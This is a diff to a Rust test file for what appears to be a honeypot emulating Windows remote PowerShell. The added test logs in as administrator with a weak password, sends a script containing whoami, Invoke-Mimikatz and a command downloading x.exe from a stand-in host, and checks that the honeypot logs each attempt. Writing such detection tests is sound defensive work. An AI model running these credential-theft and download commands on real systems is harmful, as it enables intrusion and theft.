@@ -1,6 +1,9 @@
 //! What a client of remote management does, and what asks the endpoint mapper.
 
-use super::{SERVICE, open};
+use super::{
+    SERVICE, open,
+    psrp::{Fragments, Message, kind},
+};
 use base64::{Engine, engine::general_purpose::STANDARD};
 use netsvc_kit::{
     Action,
@@ -134,6 +137,80 @@ fn a_shell_runs_commands_and_ends() {
         |kind: Kind, value: &str| told.iter().any(|(known, text)| (*known, text.as_str()) == (kind, value));
     assert!(has(Kind::Command, "whoami") && has(Kind::DownloadAttempt, "http://192.0.2.9/a.ps1"), "{told:?}");
     assert!(has(Kind::ExploitAttempt, "powershell download cradle"), "{told:?}");
+}
+
+/// The messages in the streams that were fetched.
+fn fetched(said: &str) -> Vec<Message> {
+    let mut fragments = Fragments::default();
+    let streams = said.split("<rsp:Stream Name=\"stdout\"").skip(1);
+    let texts = streams.filter_map(|rest| rest.split_once('>')?.1.split('<').next());
+    texts.flat_map(|text| fragments.take(&STANDARD.decode(text).unwrap()).unwrap()).collect()
+}
+
+#[test]
+fn remote_powershell_opens_a_pool_and_runs_scripts() {
+    const KIND: &str = "http://schemas.microsoft.com/powershell/Microsoft.PowerShell";
+    const ID: &str = "0E5A6B2C-1111-4222-8333-944445555566";
+    let login = format!("Authorization: Basic {}\r\n", STANDARD.encode("administrator:toor"));
+    let mut client = Fragments::default();
+    let mut fragments = |kind: u32, data: &str| {
+        let message = Message { kind, pool: [1; 16], pipeline: [2; 16], data: data.to_owned() };
+        STANDARD.encode(client.give(&message))
+    };
+    let remote = |action: &str, more: &str, body: &str| {
+        envelope(action, more, body).replace(&format!("{SHELL}/cmd"), KIND)
+    };
+    let opening = fragments(kind::INIT_POOL, "<Obj/>");
+    let create = remote(
+        "http://schemas.xmlsoap.org/ws/2004/09/transfer/Create",
+        "",
+        &format!("<rsp:Shell ShellId=\"{ID}\"><creationXml>{opening}</creationXml></rsp:Shell>"),
+    );
+    let at = format!("<w:SelectorSet><w:Selector Name=\"ShellId\">{ID}</w:Selector></w:SelectorSet>");
+    let receive = |of: &str| {
+        let body = format!("<rsp:Receive><rsp:DesiredStream{of}>stdout</rsp:DesiredStream></rsp:Receive>");
+        post("", &remote(&format!("{SHELL}/Receive"), &at, &body))
+    };
+    let command = |data: String| {
+        format!(
+            "<Obj><MS><S N=\"Cmd\">{data}</S><B N=\"IsScript\">true</B><B N=\"EndOfStatement\">false</B></MS></Obj>"
+        )
+    };
+    let script = "cd ..; (pwd).path; whoami; Invoke-Mimikatz; iwr http://192.0.2.9/x.exe -OutFile x.exe";
+    let pipeline = fragments(kind::CREATE_PIPELINE, &command(script.to_owned()));
+    let run = format!(
+        "<rsp:CommandLine CommandId=\"P1\"><rsp:Command/><rsp:Arguments>{pipeline}</rsp:Arguments></rsp:CommandLine>"
+    );
+    let said = [
+        post(&login, &create),
+        receive(""),
+        post("", &remote(&format!("{SHELL}/Command"), &at, &run)),
+        receive(" CommandId=\"P1\""),
+        receive(" CommandId=\"P1\""),
+    ];
+    let (said, told) = talk(5985, &[("basic", "yes")], &said);
+    let said = String::from_utf8(said).unwrap();
+    assert!(said.contains(&format!("<rsp:ShellId>{ID}</rsp:ShellId><rsp:ResourceUri>{KIND}<")), "{said}");
+    let messages = fetched(&said);
+    let kinds: Vec<u32> = messages.iter().map(|message| message.kind).collect();
+    let wanted = [
+        kind::CAPABILITY,
+        kind::PRIVATE_DATA,
+        kind::POOL_STATE,
+        kind::OUTPUT,
+        kind::OUTPUT,
+        kind::ERROR,
+        kind::PIPELINE_STATE,
+    ];
+    assert_eq!(kinds, wanted, "{messages:?}");
+    assert_eq!(messages.get(3).unwrap().data, "<S>C:\\Users\\Administrator</S>");
+    assert_eq!(messages.get(4).unwrap().data, "<S>corp\\administrator</S>");
+    assert!(messages.get(5).unwrap().data.contains("The term 'Invoke-Mimikatz' is not recognized"));
+    assert!(said.contains("CommandState/Done\"") && said.contains("w:TimedOut"), "{said}");
+    let has =
+        |kind: Kind, value: &str| told.iter().any(|(known, text)| *known == kind && text.contains(value));
+    assert!(has(Kind::Command, script) && has(Kind::DownloadAttempt, "http://192.0.2.9/x.exe"), "{told:?}");
+    assert!(has(Kind::UnknownCommand, "Invoke-Mimikatz"), "{told:?}");
 }
 
 #[test]
